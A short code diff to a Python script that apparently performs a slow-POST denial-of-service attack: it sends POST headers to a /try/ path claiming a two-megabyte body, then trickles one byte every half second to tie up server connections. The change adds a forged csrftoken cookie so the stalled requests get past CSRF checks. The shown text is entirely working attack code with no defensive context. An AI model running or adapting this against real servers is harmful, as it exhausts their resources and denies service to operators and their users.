@@ -21,7 +21,7 @@ from time import monotonic
 from urllib.parse import urlsplit
 
 PAGE = "/about/"
-BODY = b"POST /try/ HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000000\r\n\r\n"
+BODY = b"POST /try/ HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nCookie: csrftoken=%s\r\nContent-Length: 2000000\r\n\r\n"
 
 
 @dataclass(frozen=True, slots=True)
@@ -55,7 +55,7 @@ def send_slowly(host: str, port: int, stop: Event) -> None:
     while not stop.is_set():
         try:
             with socket.create_connection((host, port), timeout=10) as connection:
-                connection.sendall(BODY % host.encode())
+                connection.sendall(BODY % (host.encode(), b"a" * 32))
                 while not stop.wait(0.5):
                     connection.sendall(b"a")
         except OSError:
